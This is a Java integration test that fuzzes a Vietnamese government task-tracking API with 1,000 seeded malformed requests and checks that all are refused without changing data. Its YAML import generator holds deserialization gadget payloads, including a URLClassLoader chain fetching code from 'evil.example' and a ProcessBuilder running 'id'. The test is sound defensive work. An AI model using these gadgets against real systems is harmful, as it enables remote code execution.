package vn.gov.tasktracking.security;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.EnumMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.SplittableRandom;
import java.util.TreeMap;
import java.util.function.Function;
import java.util.random.RandomGenerator;
import java.util.regex.Pattern;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.camunda.bpm.engine.ManagementService;
import org.camunda.bpm.engine.RuntimeService;
import org.camunda.bpm.engine.TaskService;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DynamicNode;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.simple.JdbcClient;
import vn.gov.tasktracking.TestPeople;
import vn.gov.tasktracking.directory.DirectoryService;

/**
 * 1,000 generated malformed requests, spread over every write endpoint of /api, sent over HTTP to
 * the running application as the Office specialist, an administrator or a unit's officer (issue 12,
 * L). None may answer 5xx; each is refused with the product's JSON and a Vietnamese message; none
 * changes a row of the product's tables or of the engine's executions, tasks and variables.
 *
 * <p>Every generated request carries at least one value the product must refuse whatever the rest
 * holds (a control character, a null list element, a date outside 1900–2100, a wrong JSON type, a
 * value longer than a column that is always checked, a broken body, a wrong content type, a broken
 * multipart body, a YAML tag or repeated key), so a request that is accepted is a finding.
 *
 * <p>The requests come from a small seeded generator of this test's own ({@link Gen}). The seed is
 * fixed: CI sends the same 1,000 requests every time. Each request is a dynamic test named after
 * it; a failure names the seed, the case's index and the whole request.
 */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT)
class MalformedRequestsPropertyIT {

  static final long SEED = 20261202L;
  static final int TRIES = 1000;

  private static final ObjectMapper JSON = new ObjectMapper();
  private static final Pattern VIETNAMESE =
      Pattern.compile(
          "(?s).*[àáạảãâầấậẩẫăằắặẳẵèéẹẻẽêềếệểễìíịỉĩòóọỏõôồốộổỗơờớợởỡùúụủũưừứựửữỳýỵỷỹđĐ].*");
  private static final List<String> TABLES =
      List.of(
          "unit",
          "person",
          "person_role",
          "directory_import",
          "document",
          "directive",
          "assigned_task",
          "task_coordination",
          "task_status_change",
          "task_progress",
          "task_submission",
          "notification",
          "notification_log",
          "task_reminder",
          "task_explanation",
          "task_extension",
          "calendar_year",
          "inspection",
          "inspection_member",
          "inspection_late_task",
          "inspection_finding",
          "inspection_requirement",
          "inspection_petition",
          "ACT_RU_EXECUTION",
          "ACT_RU_TASK",
          "ACT_RU_VARIABLE",
          "ACT_RU_JOB",
          "ACT_ID_USER",
          "ACT_ID_GROUP",
          "ACT_ID_MEMBERSHIP");
  private static final List<String> EVERYONE =
      List.of(TestPeople.OFFICE_SPECIALIST, TestPeople.ADMIN, TestPeople.SXD_OFFICER);

  @LocalServerPort int port;
  @Autowired DirectoryService directory;
  @Autowired RuntimeService runtime;
  @Autowired TaskService tasks;
  @Autowired ManagementService management;
  @Autowired JdbcClient jdbc;

  private ApiClient api;

  /** A task of SXD at its result step, its officer TestPeople.SXD_OFFICER. */
  private String task;

  /** A document none of the three callers uploaded. */
  private long othersDocument;

  private final Map<Endpoint, Integer> tried = new EnumMap<>(Endpoint.class);
  private final Map<Integer, Integer> statuses = new TreeMap<>();

  @BeforeEach
  void application() {
    TestPeople.ensure(directory);
    api = new ApiClient(port);
    RegisterFixtures register = new RegisterFixtures(api, runtime, tasks, management);
    task = register.register("SXD", null);
    register.accept(task, TestPeople.SXD_OFFICER);
    othersDocument =
        register.upload(
            TestPeople.CAOLOC_OFFICER, "cua-cao-loc.pdf", "application/pdf", "%PDF-1.4 Cao Lộc");
  }

  @TestFactory
  Stream<DynamicNode> malformedRequestsAreRefusedInVietnameseAndChangeNothing() {
    // Every case draws from its own generator split off the seeded one, so case n is the same
    // request whatever the generators of the cases before it consume.
    SplittableRandom seeded = new SplittableRandom(SEED);
    Gen<Malformed> requests = malformedRequests();
    List<Malformed> cases =
        IntStream.range(0, TRIES).mapToObj(n -> requests.next(seeded.split())).toList();
    Stream<DynamicNode> each =
        IntStream.range(0, TRIES)
            .mapToObj(
                n ->
                    DynamicTest.dynamicTest(
                        String.format("#%04d %s", n, cases.get(n).title()),
                        () -> refusedAndNothingChanged(n, cases.get(n))));
    return Stream.concat(
        each,
        Stream.of(
            DynamicTest.dynamicTest("every endpoint was tried", this::everyEndpointWasTried)));
  }

  private void refusedAndNothingChanged(int n, Malformed request) {
    tried.merge(request.endpoint(), 1, Integer::sum);
    Map<String, Long> before = rowCounts();

    ApiClient.Answer answer =
        api.send(
            request.user(),
            request.method(),
            request.path(),
            request.contentType(),
            request.body());

    statuses.merge(answer.status(), 1, Integer::sum);
    String what =
        String.format(
            "seed %d, case #%d of %d: %s%n→ %s", SEED, n, TRIES, request, answer.abbreviated());
    assertThat(answer.status()).as(what).isBetween(400, 499);
    // A wrong content type is refused by Spring MVC itself before any endpoint; its Vietnamese
    // body belongs to the REST gate of issue 12. The status and the unchanged rows are checked
    // here.
    if (answer.status() != 415) {
      assertThat(answer.json().get("message")).as(what).asString().matches(VIETNAMESE);
    }
    assertThat(rowCounts()).as(what).isEqualTo(before);
  }

  private void everyEndpointWasTried() {
    System.out.printf(
        "%s, seed %d, %d requests%n  endpoint: %s%n  status:   %s%n",
        getClass().getSimpleName(), SEED, TRIES, split(tried), split(statuses));
    assertThat(tried.keySet()).as("endpoints tried").containsExactlyInAnyOrder(Endpoint.values());
    assertThat(tried.values()).as("requests per endpoint: %s", tried).allMatch(n -> n >= 20);
  }

  private static String split(Map<?, Integer> counts) {
    int all = counts.values().stream().mapToInt(Integer::intValue).sum();
    return String.join(
        ", ",
        counts.entrySet().stream()
            .map(
                e ->
                    String.format(
                        "%s %d (%.1f %%)", e.getKey(), e.getValue(), 100.0 * e.getValue() / all))
            .toList());
  }

  /** A request as sent: the body as raw bytes, so nothing on the way repairs it. */
  record Malformed(
      Endpoint endpoint, String user, String method, String path, String contentType, byte[] body) {
    @Override
    public String toString() {
      String text = body == null ? "" : visible(new String(body, StandardCharsets.UTF_8));
      return method
          + " "
          + path
          + " as "
          + user
          + " ("
          + contentType
          + "): "
          + (text.length() > 400
              ? text.substring(0, 400) + "… (" + text.length() + " chars)"
              : text);
    }

    /** Short enough for a test's name. */
    String title() {
      String text = body == null ? "" : visible(new String(body, StandardCharsets.UTF_8));
      return method
          + " "
          + visible(path)
          + " as "
          + user
          + " ("
          + contentType
          + ") "
          + (text.length() > 60 ? text.substring(0, 60) + "… (" + text.length() + " chars)" : text);
    }

    /** Control characters written as \\uXXXX, so reports and consoles show them. */
    private static String visible(String text) {
      StringBuilder out = new StringBuilder(text.length());
      text.codePoints()
          .forEach(
              c -> {
                if (Character.isISOControl(c)) {
                  out.append(String.format("\\u%04x", c));
                } else {
                  out.appendCodePoint(c);
                }
              });
      return out.toString();
    }
  }

  enum Endpoint {
    DIRECTIVES,
    PROGRESS,
    RESULT,
    WITHDRAW,
    EXTENSIONS,
    DOCUMENTS,
    DIRECTORY_IMPORT,
    DIRECTORY_UNIT,
    DIRECTORY_PERSON,
    CALENDAR,
    INSPECTION_PLAN,
    INSPECTION_REPORT,
    INSPECTION_FINDINGS,
    INSPECTION_CONCLUSION,
    TASK_IMPORT,
    NOTIFICATION_READ
  }

  private Gen<Malformed> malformedRequests() {
    // Endpoints are chosen evenly.
    return Gen.of(Endpoint.values()).flatMap(this::malformed);
  }

  private Gen<Malformed> malformed(Endpoint endpoint) {
    return switch (endpoint) {
      case DIRECTIVES ->
          json(
              endpoint,
              "POST",
              Gen.just("/api/directives"),
              List.of(
                  field("number", text(20), badText(64, true)),
                  field("issuedOn", date(), badDate()),
                  field("issuerKind", Gen.of("COMMITTEE", "CHAIRMAN"), badText(32, false)),
                  field("excerpt", text(40), badText(3000, true)),
                  field(
                      "documentId",
                      Gen.just(othersDocument),
                      Gen.oneOf(wrongType(), Gen.just(othersDocument))),
                  field("tasks", directiveTasks(), badTasks())));
      case PROGRESS ->
          json(
              endpoint,
              "POST",
              Gen.just("/api/tasks/" + task + "/progress"),
              List.of(
                  field("percent", Gen.integers(0, 100), badPercent()),
                  field("note", text(40), badText(3000, true))));
      case RESULT ->
          json(
              endpoint,
              "POST",
              Gen.just("/api/tasks/" + task + "/result"),
              List.of(
                  field("resultText", text(40), badText(3000, true)),
                  field("documentRef", text(20), badText(255, true)),
                  field(
                      "documentId",
                      Gen.just(othersDocument),
                      Gen.oneOf(wrongType(), Gen.just(othersDocument)))));
      case WITHDRAW ->
          json(
              endpoint,
              "POST",
              Gen.just("/api/tasks/" + task + "/withdraw"),
              List.of(field("reason", text(40), badText(3000, true))));
      case EXTENSIONS ->
          json(
              endpoint,
              "POST",
              Gen.just("/api/tasks/" + task + "/extensions"),
              List.of(
                  field("reason", text(40), badText(3000, true)),
                  field("proposedDeadline", Gen.just("2099-12-31"), badDate())));
      case DIRECTORY_UNIT ->
          json(
              endpoint,
              "PUT",
              Gen.of("/api/directory/units/ITSEC", "/api/directory/units/itsec-chu-thuong"),
              List.of(
                  field("name", text(30), badText(255, true)),
                  field("kind", Gen.just("DEPARTMENT"), badText(32, false)),
                  field("parent", Gen.just("VPUBND"), badText(32, true)),
                  field("active", Gen.just(true), badBoolean())));
      case DIRECTORY_PERSON ->
          json(
              endpoint,
              "PUT",
              Gen.of("/api/directory/people/it.sec.moi", "/api/directory/people/A"),
              List.of(
                  field("fullName", text(30), badText(255, true)),
                  field("title", text(20), badText(255, true)),
                  field("email", Gen.just("it.sec.moi@example.vn"), badText(255, true)),
                  field("phone", Gen.just("0205 3812 345"), badText(32, true)),
                  field("unit", Gen.just("SXD"), badText(32, true)),
                  field("roles", Gen.just(List.of("OFFICER")), badTextList(32)),
                  field("password", Gen.just("Mat-khau-moi-2026"), badText(255, true))));
      case CALENDAR -> calendar();
      case INSPECTION_PLAN ->
          json(
              endpoint,
              "POST",
              Gen.just("/api/inspections"),
              List.of(
                  field("unit", Gen.just("SXD"), badText(32, true)),
                  field("periodFrom", Gen.just("2026-01-01"), badDate()),
                  field("periodTo", Gen.just("2026-06-30"), badDate()),
                  field("visitDate", date(), badDate()),
                  field("leader", Gen.just(TestPeople.OFFICE_SPECIALIST), badText(64, true)),
                  field("members", Gen.just(List.of(TestPeople.ADMIN)), badTextList(64)),
                  field("content", text(40), badText(3000, true))));
      case INSPECTION_REPORT ->
          json(
              endpoint,
              "POST",
              inspectionPath("report"),
              List.of(
                  field("keyResults", text(40), badText(3000, true)),
                  field("difficulties", text(40), badText(3000, true)),
                  field("petitions", Gen.just(List.of("Kiến nghị")), badTextList(3000)),
                  field(
                      "explanations",
                      Gen.just(List.of()),
                      Gen.oneOf(nullElementList(), wrongType()))));
      case INSPECTION_FINDINGS ->
          json(
              endpoint,
              "POST",
              inspectionPath("findings"),
              List.of(
                  field("findings", Gen.just(List.of("Phát hiện")), badTextList(3000)),
                  field("done", Gen.just(false), badBoolean())));
      case INSPECTION_CONCLUSION ->
          json(
              endpoint,
              "POST",
              inspectionPath("conclusion"),
              List.of(
                  field("assessment", text(40), badText(3000, true)),
                  field(
                      "requirements",
                      Gen.just(List.of(Map.of("content", "Yêu cầu", "deadline", "2099-12-31"))),
                      Gen.oneOf(
                          nullElementList(),
                          wrongType(),
                          badDate()
                              .map(d -> List.of(mapOf("content", "Yêu cầu", "deadline", d)))))));
      case DOCUMENTS -> multipart(endpoint, "/api/documents", EVERYONE, false);
      case TASK_IMPORT ->
          multipart(
              endpoint,
              "/api/imports/tasks",
              List.of(TestPeople.OFFICE_SPECIALIST, TestPeople.ADMIN),
              true);
      case DIRECTORY_IMPORT -> directoryFile();
      case NOTIFICATION_READ ->
          random ->
              new Malformed(
                  Endpoint.NOTIFICATION_READ,
                  Gen.of(EVERYONE).next(random),
                  "POST",
                  "/api/notifications/"
                      + Gen.of("abc", "1.5", "99999999999999999999", "-", "%20", "1e3", "mot")
                          .next(random)
                      + "/read",
                  null,
                  null);
    };
  }

  // ---- JSON endpoints ----------------------------------------------------------------------

  /** A field: a value the endpoint would take (or none), and values it must refuse. */
  private record Field(String name, Gen<?> valid, Gen<?> bad) {}

  private static Field field(String name, Gen<?> valid, Gen<?> bad) {
    return new Field(name, valid, bad);
  }

  private static final Object ABSENT = new Object();

  /**
   * A JSON object with every field valid or left out except at least one bad one (one to three
   * fields drawn, a field drawn twice takes its last bad value); or a body broken as a whole; or a
   * content type the endpoint does not read.
   */
  private Gen<Malformed> json(
      Endpoint endpoint, String method, Gen<String> path, List<Field> fields) {
    Gen<List<Integer>> badIndexes = Gen.listOf(Gen.integers(0, fields.size() - 1), 1, 3);
    Gen<Map<String, Object>> object =
        random -> {
          Map<String, Object> body = new LinkedHashMap<>();
          for (Field field : fields) {
            Object value = Gen.oneOf(field.valid(), Gen.just(ABSENT)).next(random);
            if (value != ABSENT) {
              body.put(field.name(), value);
            }
          }
          for (int i : badIndexes.next(random)) {
            body.put(fields.get(i).name(), fields.get(i).bad().next(random));
          }
          return body;
        };
    Gen<byte[]> wellFormed = object.map(MalformedRequestsPropertyIT::bytes);
    Gen<byte[]> broken =
        Gen.oneOf(
            wellFormed.flatMap(
                b -> Gen.integers(1, b.length - 1).map(cut -> Arrays.copyOf(b, cut))),
            Gen.of(
                    "",
                    "null",
                    "[]",
                    "[null]",
                    "\"văn bản\"",
                    "42",
                    "true",
                    "{",
                    "{\"a\":}",
                    "{'number':'1'}",
                    "<xml/>")
                .map(s -> s.getBytes(StandardCharsets.UTF_8)),
            Gen.bytes(1, 200)
                .map(
                    b -> {
                      b[0] = (byte) 0xff;
                      return b;
                    }));
    Gen<String> contentType =
        Gen.frequency(
            15, Gen.just("application/json"),
            1, Gen.of("text/plain", "application/xml", "application/x-www-form-urlencoded"));
    Gen<byte[]> body = Gen.frequency(4, wellFormed, 1, broken);
    return random ->
        new Malformed(
            endpoint,
            Gen.of(EVERYONE).next(random),
            method,
            path.next(random),
            contentType.next(random),
            body.next(random));
  }

  private Gen<String> inspectionPath(String step) {
    return Gen.of(
        "/api/inspections/987654321/" + step,
        "/api/inspections/abc/" + step,
        "/api/inspections/-1/" + step);
  }

  private Gen<Object> directiveTasks() {
    return Gen.just(
        List.of(
            mapOf(
                "content",
                "Nhiệm vụ sinh ngẫu nhiên",
                "leadUnit",
                "SXD",
                "deadline",
                "2099-12-31")));
  }

  private Gen<Object> badTasks() {
    Gen<Object> content = Gen.oneOf(text(30), badText(3000, true));
    Gen<Object> unit = Gen.oneOf(Gen.just("SXD"), badText(32, true));
    Gen<Object> coordinating = Gen.oneOf(Gen.just(List.of()), badTextList(32));
    Gen<Object> deadline = Gen.oneOf(Gen.just("2099-12-31"), badDate());
    Gen<Object> badTask =
        random -> {
          Object[] values = {
            content.next(random),
            unit.next(random),
            coordinating.next(random),
            deadline.next(random)
          };
          // whichever the others are, one of them is bad
          int which = Gen.integers(0, 4).next(random) % 4;
          values[which] =
              switch (which) {
                case 0 -> "\u0000" + values[0];
                case 1 -> List.of(values[1]);
                case 2 -> Arrays.asList("STC", null);
                default -> "-0001-01-01";
              };
          return List.of(
              mapOf(
                  "content",
                  values[0],
                  "leadUnit",
                  values[1],
                  "coordinatingUnits",
                  values[2],
                  "deadline",
                  values[3]));
        };
    return Gen.oneOf(badTask, nullElementList(), wrongType(), Gen.just(List.of(List.of())));
  }

  private Gen<Malformed> calendar() {
    Gen<String> badYear = Gen.of("0", "1899", "2200", "-1", "99999", "2147483647", "năm", "2031.5");
    Gen<Object> day =
        random ->
            mapOf(
                "date",
                Gen.oneOf(Gen.just("2031-09-01"), badDate()).next(random),
                "note",
                Gen.oneOf(text(20), badText(255, true)).next(random));
    Gen<byte[]> badBody =
        Gen.<Object>oneOf(
                nullElementList().map(list -> mapOf("extraDaysOff", list)),
                wrongTypeForAList().map(w -> mapOf("swappedWorkingDays", w)),
                random ->
                    mapOf(
                        "tet",
                        mapOf(
                            "firstDay", badDate().next(random), "lastDay", badDate().next(random))),
                random ->
                    mapOf(
                        "extraDaysOff",
                        List.of(
                            day.next(random),
                            mapOf("date", "2031-09-03", "note", badText(255, true).next(random)))))
            .map(MalformedRequestsPropertyIT::bytes);
    Gen<Malformed> wrongYear =
        random ->
            new Malformed(
                Endpoint.CALENDAR,
                Gen.of(EVERYONE).next(random),
                "PUT",
                "/api/calendar/" + badYear.next(random),
                "application/json",
                "{\"extraDaysOff\":[]}".getBytes(StandardCharsets.UTF_8));
    Gen<Malformed> wrongBody =
        random ->
            new Malformed(
                Endpoint.CALENDAR,
                Gen.of(EVERYONE).next(random),
                "PUT",
                "/api/calendar/" + Gen.integers(2031, 2099).next(random),
                "application/json",
                badBody.next(random));
    return Gen.oneOf(wrongYear, wrongBody);
  }

  // ---- Multipart and YAML endpoints -----------------------------------------------------------

  private Gen<Malformed> multipart(
      Endpoint endpoint, String path, List<String> users, boolean workbook) {
    String boundary = "multipart/form-data; boundary=" + ApiClient.BOUNDARY;
    byte[] someFile = "%PDF-1.4 tệp".getBytes(StandardCharsets.UTF_8);
    Gen<String> longName =
        Gen.integers(256, 2000).map(n -> "t".repeat(n - 4) + (workbook ? ".xlsx" : ".pdf"));
    Gen<String> controlName = Gen.of("bao\u0001cao.pdf", "bao-cao\u001f.xlsx", "\u007fbao.pdf");
    List<Gen<String[]>> shapes =
        new ArrayList<>(
            List.of(
                // content type, part name, file name, body kind
                Gen.just(new String[] {"multipart/form-data", "file", "a.xlsx", "ok"}),
                Gen.just(
                    new String[] {"multipart/form-data; boundary=khac", "file", "a.xlsx", "ok"}),
                Gen.of("tep", "files", "FILE", "")
                    .map(part -> new String[] {boundary, part, "a.xlsx", "ok"}),
                longName.map(name -> new String[] {boundary, "file", name, "ok"}),
                controlName.map(name -> new String[] {boundary, "file", name, "ok"}),
                Gen.just(new String[] {boundary, "file", "trong.pdf", "empty"}),
                Gen.just(new String[] {"application/json", "file", "a.xlsx", "ok"}),
                Gen.just(new String[] {boundary, "file", "a.xlsx", "truncated"})));
    if (workbook) {
      shapes.add(
          Gen.of("nhiem-vu.xlsx", "nhiem-vu.xls", "nhiem-vu.csv")
              .map(name -> new String[] {boundary, "file", name, "garbage"}));
    }
    Gen<String[]> shape = Gen.oneOf(shapes);
    Gen<byte[]> garbage = Gen.bytes(1, 3000);
    return random -> {
      String user = Gen.of(users).next(random);
      String[] chosen = shape.next(random);
      byte[] content =
          switch (chosen[3]) {
            case "empty" -> new byte[0];
            case "garbage" -> garbage.next(random);
            default ->
                workbook
                    ? "PK\u0003\u0004 không phải Excel".getBytes(StandardCharsets.UTF_8)
                    : someFile;
          };
      byte[] body = ApiClient.multipart(chosen[1], chosen[2], "application/octet-stream", content);
      if (chosen[3].equals("truncated")) {
        body = Arrays.copyOf(body, body.length / 2);
      }
      return new Malformed(endpoint, user, "POST", path, chosen[0], body);
    };
  }

  private Gen<Malformed> directoryFile() {
    Gen<String> overlong =
        random -> {
          int n = Gen.integers(256, 5000).next(random);
          String key = Gen.of("name", "fullName", "phone", "email", "version").next(random);
          return switch (key) {
            case "version" -> "version: " + "v".repeat(n) + "\n";
            case "name" ->
                "units:\n  - code: ITSEC\n    name: " + "A".repeat(n) + "\n    kind: DEPARTMENT\n";
            default ->
                "people:\n  - username: it.sec.moi\n    fullName: "
                    + (key.equals("fullName") ? "A".repeat(n) : "Người Mới")
                    + "\n    "
                    + (key.equals("fullName")
                        ? "phone: \"0205\""
                        : key + ": \"" + "0".repeat(n) + "\"")
                    + "\n    unit: SXD\n    roles: [OFFICER]\n";
          };
        };
    Gen<String> yaml =
        Gen.oneOf(
            Gen.of(
                "!!java.lang.Runtime {}\n",
                "version: it\nunits:\n  - !!java.lang.Runtime {}\n",
                "units: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example/\"]]]]\n",
                "version: !!java.lang.ProcessBuilder [[\"id\"]]\n",
                "version: !thing x\n",
                "version: a\nversion: b\n",
                "units:\n  - code: ITSEC\n    name: Một\n    name: Hai\n    kind: DEPARTMENT\n",
                "units:\n  - null\n",
                "people:\n  -\n",
                "people:\n  - username: it.sec.moi\n    fullName: Người Mới\n    unit: SXD\n    roles: [null]\n",
                "units: 5\n",
                "people: {a: 1}\n",
                "units:\n  - code: [1, 2]\n",
                "{{{\n",
                ":\n:\n",
                "version: \"\u0000\"\n",
                "version: x\u0001y\n",
                "khongco: 1\n"),
            overlong);
    Gen<String> type =
        Gen.of("application/yaml", "application/x-yaml", "text/plain", "application/json");
    return random ->
        new Malformed(
            Endpoint.DIRECTORY_IMPORT,
            Gen.of(EVERYONE).next(random),
            "POST",
            "/api/directory/import",
            type.next(random),
            yaml.next(random).getBytes(StandardCharsets.UTF_8));
  }

  // ---- Values ----------------------------------------------------------------------------------

  private static Gen<String> text(int maxLength) {
    return Gen.strings("aăâbcdđeêghiklmnoôơpqrstuưvxyàảãáạằẳẵắặầẩẫấậ ", 1, maxLength)
        .map(s -> "Sinh " + s);
  }

  /**
   * Refused in any field: a control character, a wrong JSON type; when the field is always checked,
   * a value over its column.
   */
  private static Gen<Object> badText(int column, boolean alwaysChecked) {
    Gen<Object> control =
        random -> {
          String s = text(30).next(random);
          char c =
              Gen.of(
                      '\u0000', '\u0001', '\u0007', '\u0008', '\u000b', '\u000c', '\u001b',
                      '\u001f', '\u007f')
                  .next(random);
          int at = Math.min(Gen.integers(0, 30).next(random), s.length());
          return s.substring(0, at) + c + s.substring(at);
        };
    Gen<Object> overlong =
        Gen.oneOf(
            Gen.integers(column + 1, column + 50).map(n -> "đ".repeat(n)),
            Gen.of(column * 3 + 7, 70_000).map(n -> "x".repeat(n)));
    return alwaysChecked
        ? Gen.oneOf(control, wrongType(), overlong)
        : Gen.oneOf(control, wrongType());
  }

  private static Gen<Object> badTextList(int column) {
    return Gen.oneOf(
        nullElementList(),
        wrongType().map(w -> List.of(w)),
        badText(column, true).map(b -> List.of("it.quantri", b)),
        Gen.just("SXD"));
  }

  private static Gen<Object> nullElementList() {
    return Gen.of(
        Arrays.asList((Object) null), Arrays.asList("SXD", null), Arrays.asList(null, null, null));
  }

  /** An object or array where a scalar belongs. */
  private static Gen<Object> wrongType() {
    return Gen.of(Map.of(), Map.of("giá trị", 1), List.of(), List.of(1, 2), List.of(Map.of()));
  }

  /**
   * {@link #wrongType()} without the empty list, which a list field takes: no days swapped is a
   * valid year.
   */
  private static Gen<Object> wrongTypeForAList() {
    return Gen.of(Map.of(), Map.of("giá trị", 1), List.of(1, 2), List.of(Map.of()));
  }

  private static Gen<Object> date() {
    return Gen.integers(0, 20_000)
        .map(d -> java.time.LocalDate.of(2027, 1, 1).plusDays(d).toString());
  }

  private static Gen<Object> badDate() {
    return Gen.oneOf(
        Gen.of(
            "-0001-01-01",
            "0000-01-01",
            "0001-01-01",
            "1899-12-31",
            "2101-01-01",
            "2200-06-15",
            "9999-12-31",
            "+10000-01-01",
            "2026-02-30",
            "2026-13-01",
            "31/12/2026",
            "hôm nay",
            "2026-11-02T25:00",
            "2026\u0000-11-02"),
        Gen.of(10_000_000_000L, -1_000_000L, 99_999_999L),
        wrongType());
  }

  private static Gen<Object> badPercent() {
    return Gen.oneOf(
        Gen.of(-1, 101, 1000, Integer.MIN_VALUE),
        Gen.of("năm mươi", "50%", "1e3x"),
        Gen.of(1.0e12, 3_000_000_000L),
        wrongType());
  }

  private static Gen<Object> badBoolean() {
    return Gen.oneOf(Gen.of("có", "không", "yes", "2"), wrongType());
  }

  private static Map<String, Object> mapOf(Object... keysAndValues) {
    Map<String, Object> map = new LinkedHashMap<>();
    for (int i = 0; i < keysAndValues.length; i += 2) {
      map.put((String) keysAndValues[i], keysAndValues[i + 1]);
    }
    return map;
  }

  private static byte[] bytes(Object value) {
    try {
      return JSON.writeValueAsBytes(value);
    } catch (JsonProcessingException e) {
      throw new IllegalStateException(e);
    }
  }

  private Map<String, Long> rowCounts() {
    Map<String, Long> counts = new LinkedHashMap<>();
    for (String table : TABLES) {
      counts.put(table, jdbc.sql("select count(*) from " + table).query(Long.class).single());
    }
    return counts;
  }

  // ---- The generator ---------------------------------------------------------------------------

  /**
   * A value drawn from a seeded random generator: the same generator state gives the same value.
   * Choices are even unless weighted ({@link #frequency}); a range of integers gives its ends (and
   * the values next to them) one time in ten, since a limit is where a check slips.
   */
  @FunctionalInterface
  interface Gen<T> extends Function<RandomGenerator, T> {

    T next(RandomGenerator random);

    @Override
    default T apply(RandomGenerator random) {
      return next(random);
    }

    default <R> Gen<R> map(Function<? super T, ? extends R> mapper) {
      return random -> mapper.apply(next(random));
    }

    default <R> Gen<R> flatMap(Function<? super T, ? extends Gen<? extends R>> mapper) {
      return random -> mapper.apply(next(random)).next(random);
    }

    static <T> Gen<T> just(T value) {
      return random -> value;
    }

    /** One of {@code values}, each as likely. */
    @SafeVarargs
    static <T> Gen<T> of(T... values) {
      return of(Arrays.asList(values));
    }

    /** One of {@code values}, each as likely. */
    static <T> Gen<T> of(List<T> values) {
      List<T> choices = new ArrayList<>(values);
      return random -> choices.get(random.nextInt(choices.size()));
    }

    @SafeVarargs
    static <T> Gen<T> oneOf(Gen<? extends T>... gens) {
      return oneOf(List.of(gens));
    }

    static <T> Gen<T> oneOf(List<? extends Gen<? extends T>> gens) {
      List<Gen<? extends T>> choices = new ArrayList<>(gens);
      return random -> choices.get(random.nextInt(choices.size())).next(random);
    }

    /** {@code first} {@code weight1} times in {@code weight1 + weight2}, else {@code second}. */
    static <T> Gen<T> frequency(
        int weight1, Gen<? extends T> first, int weight2, Gen<? extends T> second) {
      return random ->
          random.nextInt(weight1 + weight2) < weight1 ? first.next(random) : second.next(random);
    }

    /** From {@code min} to {@code max}, both included. */
    static Gen<Integer> integers(int min, int max) {
      return random -> {
        if (random.nextInt(10) == 0) {
          int[] edges = {min, Math.min(min + 1, max), Math.max(max - 1, min), max};
          return edges[random.nextInt(edges.length)];
        }
        return (int) random.nextLong(min, (long) max + 1);
      };
    }

    /** {@code minLength} to {@code maxLength} characters of {@code chars}. */
    static Gen<String> strings(String chars, int minLength, int maxLength) {
      int[] alphabet = chars.codePoints().toArray();
      Gen<Integer> length = integers(minLength, maxLength);
      return random -> {
        int n = length.next(random);
        StringBuilder out = new StringBuilder(n);
        for (int i = 0; i < n; i++) {
          out.appendCodePoint(alphabet[random.nextInt(alphabet.length)]);
        }
        return out.toString();
      };
    }

    /** {@code minSize} to {@code maxSize} bytes of any value. */
    static Gen<byte[]> bytes(int minSize, int maxSize) {
      Gen<Integer> size = integers(minSize, maxSize);
      return random -> {
        byte[] bytes = new byte[size.next(random)];
        random.nextBytes(bytes);
        return bytes;
      };
    }

    /** {@code minSize} to {@code maxSize} values of {@code element}, each drawn anew. */
    static <T> Gen<List<T>> listOf(Gen<? extends T> element, int minSize, int maxSize) {
      Gen<Integer> size = integers(minSize, maxSize);
      return random -> {
        int n = size.next(random);
        List<T> list = new ArrayList<>(n);
        for (int i = 0; i < n; i++) {
          list.add(element.next(random));
        }
        return list;
      };
    }
  }
}
